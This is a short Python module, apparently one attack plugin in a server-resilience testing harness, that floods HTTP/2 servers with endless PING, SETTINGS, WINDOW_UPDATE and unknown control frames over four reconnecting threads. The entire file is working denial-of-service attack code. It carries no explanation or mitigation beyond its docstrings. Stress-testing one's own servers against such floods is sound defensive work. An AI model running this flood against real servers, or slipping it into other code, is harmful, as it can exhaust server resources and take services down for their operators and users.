"""HTTP/2 connections that send PING, SETTINGS, WINDOW_UPDATE and unknown frames without end."""

import select
import struct
import threading

from attacks.http2_window_zero import PREFACE, SETTINGS, frame

NAME = "http2-control-frames"
SECONDS = (6, 60)
FRAMES = 1_000
READ_BYTES = 65_536
WAIT_S = 0.5

PING, WINDOW_UPDATE, UNKNOWN = 0x6, 0x8, 0xBE
KINDS = (
    frame(PING, 0, 0, b"\x07" * 8),
    frame(SETTINGS, 0, 0, b""),
    frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 1)),
    frame(UNKNOWN, 0, 0, b""),
)


def prepare(_server):
    return None


def flood(attacker, frames):
    """Sends as fast as the server takes it, reads its answers, and begins again where it ends."""
    while attacker.is_on():
        connection = attacker.keep(attacker.connect())
        if not connection:
            attacker.rest(WAIT_S)
            continue
        left = PREFACE + frame(SETTINGS, 0, 0, b"")
        connection.setblocking(False)
        try:
            while attacker.is_on():
                left = left or frames
                readable, writable, _ = select.select([connection], [connection], [], WAIT_S)
                if readable and not connection.recv(READ_BYTES):
                    break
                if writable:
                    left = left[connection.send(left) :]
        except OSError:
            continue


def attack(attacker, _prepared):
    floods = [
        threading.Thread(target=flood, args=(attacker, kind * FRAMES), daemon=True)
        for kind in KINDS
    ]
    for thread in floods:
        thread.start()
    for thread in floods:
        thread.join()
